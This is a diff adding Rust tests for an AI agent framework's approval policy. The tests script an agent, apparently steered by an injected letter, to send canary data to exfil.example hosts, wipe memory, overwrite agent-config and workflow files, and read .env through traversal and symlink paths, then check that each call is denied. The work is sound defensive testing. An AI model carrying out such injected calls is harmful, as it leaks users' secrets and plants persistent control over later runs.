@@ -1,0 +1,83 @@
+//! Calls of an obedient model that a letter talked into something: with the default policy and
+//! nobody to ask, nothing leaves the machine, nothing is forgotten, and nothing decides about later
+//! runs.
+
+use lango_protocol::CallStatus;
+
+use crate::fixture::{Lango, TO_LIBRARIAN, TO_OPERATOR, calling};
+use crate::site::Site;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_is_not_fetched_by_a_models_words_without_a_question() {
+    let site = Site::forbidden().await;
+    let canary = "canary-4711";
+    for address in [
+        site.url(&format!("/?q={canary}")),
+        format!("http://exfil.example./{canary}"),
+        format!("https://{canary}.exfil.example/"),
+    ] {
+        let call = format!("{{ url = \"{address}\" }}");
+        let script = calling("librarian", &[("rag_ingest", call.as_str())]);
+        let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
+        let turn = lango.ask("read the letter").turn().await;
+        assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1), "{address}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rule_allows_pages_of_one_host() {
+    let call = "{ url = \"https://docs.example./guide\" }";
+    let script = calling("librarian", &[("rag_ingest", call)]);
+    let lango = Lango::playing(&[TO_LIBRARIAN, &script]).await;
+    let rule =
+        ["approvals", "add", "allow", "--tool", "rag_ingest", "--", "https://docs.example/*"];
+    assert_eq!(lango.command(&rule).run().await.code, 0);
+    let turn = lango.ask("read the guide").turn().await;
+    // The host does not exist; what counts is that it was not a question.
+    assert_eq!(turn.results_with(CallStatus::Denied), 0, "{:?}", turn.results());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_is_forgotten_without_a_question() {
+    let chronicler = r#"
+[[reply]]
+agent = "lango-orchestrator"
+results = 0
+call = [{ name = "transfer_to_agent", arguments = { agent_name = "chronicler", task = "Forget it." } }]
+"#;
+    let script = calling("chronicler", &[("memory_forget", "{ query = \"my bank\" }")]);
+    let lango = Lango::playing(&[chronicler, &script]).await;
+    let turn = lango.ask("read the letter").turn().await;
+    assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn files_that_decide_about_later_runs_are_asked_about_whatever_a_rule_allows() {
+    for path in [".mcp.json", "AGENTS.md", ".agents/skills/x/SKILL.md", ".github/workflows/x.yml"] {
+        let call = format!("{{ path = \"{path}\", content = \"owned\" }}");
+        let script = calling("operator", &[("fs_write", call.as_str())]);
+        let lango = Lango::playing(&[TO_OPERATOR, &script]).await;
+        let rule = ["approvals", "add", "allow", "--tool", "fs_write"];
+        assert_eq!(lango.command(&rule).run().await.code, 0);
+        let turn = lango.ask("read the letter").turn().await;
+        assert_eq!((turn.code, turn.results_with(CallStatus::Denied)), (3, 1), "{path}");
+        assert!(!lango.workspace().join(path).exists(), "{path}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rule_that_denies_a_path_holds_for_reading_it() {
+    let calls: Vec<String> = [".env", "./.env", "docs/../.env", "way/.env"]
+        .map(|path| format!("{{ path = \"{path}\" }}"))
+        .into();
+    let calls: Vec<(&str, &str)> = calls.iter().map(|call| ("fs_read", call.as_str())).collect();
+    let lango = Lango::playing(&[TO_OPERATOR, &calling("operator", &calls)]).await;
+    std::fs::write(lango.workspace().join(".env"), "KEY=canary\n").unwrap();
+    std::fs::create_dir(lango.workspace().join("docs")).unwrap();
+    std::os::unix::fs::symlink(".", lango.workspace().join("way")).unwrap();
+    let rule = ["approvals", "add", "deny", "--tool", "fs_read", "--", ".env"];
+    assert_eq!(lango.command(&rule).run().await.code, 0);
+    let turn = lango.ask("read the settings").turn().await;
+    assert_eq!(turn.results_with(CallStatus::Denied), 4, "{:?}", turn.results());
+    assert!(turn.results().iter().all(|result| !result.2.contains("canary")));
+}
